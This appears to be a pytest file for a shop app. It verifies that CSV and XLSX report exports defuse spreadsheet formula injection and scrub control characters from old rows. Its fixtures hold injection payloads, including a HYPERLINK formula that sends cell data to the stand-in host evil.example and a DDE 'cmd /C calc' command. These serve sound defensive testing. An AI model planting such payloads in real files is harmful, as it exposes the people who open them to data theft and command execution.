"""What a spreadsheet makes of an export: text stays text, numbers stay numbers, old bad rows do not break it.

Products are imported the way the attacker did (a CSV upload applied by the
worker), sold at the till and adjusted through the API; the exports are then
written by the real worker and read back from the downloaded files: CSV as
text and with the csv module, XLSX with openpyxl (cell types included).
"""

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from app.catalog.models import Product
from app.extensions import db
from app.inventory.models import StockMovement
from app.sales.models import SaleItem
from tests.api.test_exports import ask, download, finished
from tests.api.test_product_imports import import_and_wait
from tests.reports_support import create_product, now_in_store, sell

FORMULAS = {
    "F1": '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    "F2": "=cmd|' /C calc'!A0",
    "F3": "@SUM(1+1)",
    "F4": "+SUM(1,1)",
    "F5": "-2+3",
}
CATEGORY = "=1+1"
# Names that need no quote are written as they are (KOPI and TEH moved stock today, not sold).
PLAIN = {"stock_movements": {"KOPI": "Produk KOPI", "TEH": "Produk TEH"}}
NOTE = "-Rusak; =HYPERLINK(\"http://evil.example\")"


@pytest.fixture
def today(export_shop):
    day = now_in_store().date().isoformat()
    return {"date_from": day, "date_to": day}


def csv_file():
    lines = ["sku,name,price_idr,stock,category"]
    for sku, name in FORMULAS.items():
        quoted = '"' + name.replace('"', '""') + '"'
        lines.append(f'{sku},{quoted},1000,10,"{CATEGORY}"')
    return "\n".join(lines) + "\n"


@pytest.fixture
def formula_products(export_shop, celery_worker):
    """The five names imported in a category named like a formula, one of each sold, one adjusted down by 2."""
    status = import_and_wait(export_shop["app"], export_shop["client"], export_shop["manager"], csv_file())
    assert (status["created_count"], status["error_count"]) == (5, 0), status
    products = export_shop["client"].get("/api/products", query_string={"page_size": 100},
                                         headers=export_shop["manager"])
    ids = {p["sku"]: p["id"] for p in products.get_json()}
    sell(export_shop["client"], export_shop["cashier"], [(ids[sku], 1) for sku in FORMULAS],
         [{"method": "cash", "amount_idr": 10_000}])
    adjusted = export_shop["client"].post(f"/api/products/{ids['F1']}/stock-adjustments",
                                          headers=export_shop["manager"],
                                          json={"delta": -2, "reason": "adjustment", "note": NOTE})
    assert adjusted.status_code == 201, adjusted.get_json()
    return ids


def export(export_shop, report, file_format, dates):
    export_id = ask(export_shop, report, file_format, **dates)
    finished(export_shop, export_id)
    response = download(export_shop, export_id)
    assert response.status_code == 200
    return response


def csv_rows(response):
    """Rows as the csv module reads them, keyed by SKU, and the raw lines of the file."""
    text = response.get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text)))
    return rows[0], rows[1:], text.splitlines()


def xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(response.get_data()))["report"]
    return [[cell for cell in row] for row in sheet.iter_rows()]


def quoted(text):
    return "'" + text


# (report, column of the name, other text columns holding a formula-looking value, numeric columns)
REPORTS = [
    ("items_sold", "name", {}, {"qty": 1, "unit_price_idr": 1000}),
    ("best_sellers", "name", {"category": CATEGORY}, {"qty": 1}),
    ("stock_movements", "name", {}, {}),
]


@pytest.mark.parametrize(("report", "name_column", "texts", "numbers"), REPORTS)
def test_csv_exports_quote_every_text_cell_a_spreadsheet_would_run(
        export_shop, formula_products, today, report, name_column, texts, numbers):
    header, rows, lines = csv_rows(export(export_shop, report, "csv", today))
    name_at, sku_at = header.index(name_column), header.index("sku")
    sold = [row for row in rows if row[sku_at] in FORMULAS]
    names = {row[sku_at]: row[name_at] for row in rows}

    assert names == {sku: quoted(name) for sku, name in FORMULAS.items()} | PLAIN.get(report, {})
    for row in sold:
        for column, text in texts.items():
            assert row[header.index(column)] == quoted(text)
        for column, value in numbers.items():
            assert row[header.index(column)] == str(value)
    if report == "items_sold":
        # Text is written in double quotes, numbers bare: the spreadsheet reads them as numbers.
        assert all(',1,1000,0,' in line for line in lines[1:]), lines


def test_a_csv_stock_movement_keeps_its_negative_delta_a_number_and_quotes_its_note(
        export_shop, formula_products, today):
    header, rows, lines = csv_rows(export(export_shop, "stock_movements", "csv", today))
    adjustment = next(row for row in rows if row[header.index("reason")] == "adjustment")
    sales = [row for row in rows if row[header.index("reason")] == "sale"]

    assert adjustment[header.index("note")] == quoted(NOTE)
    assert adjustment[header.index("name")] == quoted(FORMULAS["F1"])
    assert (adjustment[header.index("delta")], adjustment[header.index("balance_after")]) == ("-2", "7")
    assert sorted(row[header.index("delta")] for row in sales) == ["-1"] * 5
    line = next(line for line in lines if '"adjustment"' in line)
    assert ',-2,7,"adjustment",' in line, line


@pytest.mark.parametrize(("report", "name_column", "texts", "numbers"), REPORTS)
def test_xlsx_exports_write_text_as_text_and_numbers_as_numbers(
        export_shop, formula_products, today, report, name_column, texts, numbers):
    rows = xlsx_cells(export(export_shop, report, "xlsx", today))
    header = [cell.value for cell in rows[0]]
    sku_at, name_at = header.index("sku"), header.index(name_column)
    body = [row for row in rows[1:] if row[sku_at].value in FORMULAS]

    assert not [cell.coordinate for row in rows for cell in row if cell.data_type == "f"]
    assert {row[sku_at].value: row[name_at].value for row in body} == {
        sku: quoted(name) for sku, name in FORMULAS.items()}
    for row in body:
        assert row[name_at].data_type == "s"
        for column, text in texts.items():
            assert (row[header.index(column)].value, row[header.index(column)].data_type) == (quoted(text), "s")
        for column, value in numbers.items():
            assert (row[header.index(column)].value, row[header.index(column)].data_type) == (value, "n")


def test_an_xlsx_stock_movement_keeps_its_negative_delta_a_number(export_shop, formula_products, today):
    rows = xlsx_cells(export(export_shop, "stock_movements", "xlsx", today))
    header = [cell.value for cell in rows[0]]
    adjustment = next(row for row in rows[1:] if row[header.index("reason")].value == "adjustment")

    delta, note = adjustment[header.index("delta")], adjustment[header.index("note")]
    assert (delta.value, delta.data_type) == (-2, "n")
    assert (note.value, note.data_type) == (quoted(NOTE), "s")


# --- rows stored before control characters were refused -------------------------------------


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_old_row_with_control_characters_is_exported_with_them_replaced(
        export_shop, celery_worker, today, file_format):
    app, client = export_shop["app"], export_shop["client"]
    product_id = create_product(client, export_shop["manager"], "TMANIS", 4_000, stock=10)
    sell(client, export_shop["cashier"], [(product_id, 2)], [{"method": "cash", "amount_idr": 10_000}])
    with app.app_context():
        # As an old row would be: written before the API refused control characters.
        db.session.execute(update(Product).where(Product.id == product_id).values(name="Teh\x0bManis\x1b"))
        db.session.execute(update(SaleItem).where(SaleItem.sku == "TMANIS").values(name="Teh\x0bManis\x1b"))
        db.session.execute(update(StockMovement).where(StockMovement.product_id == product_id)
                           .values(note="\x07\x0c"))
        db.session.commit()

    for report in ("items_sold", "stock_movements", "best_sellers"):
        response = export(export_shop, report, file_format, today)
        if file_format == "csv":
            header, rows, _ = csv_rows(response)
        else:
            values = [[cell.value for cell in row] for row in xlsx_cells(response)]
            header, rows = values[0], values[1:]
        rows = [row for row in rows if row[header.index("sku")] == "TMANIS"]
        assert rows, report
        assert {row[header.index("name")] for row in rows} == {"Teh\ufffdManis\ufffd"}, report
        if "note" in header:
            assert {row[header.index("note")] for row in rows} == {"\ufffd\ufffd"}
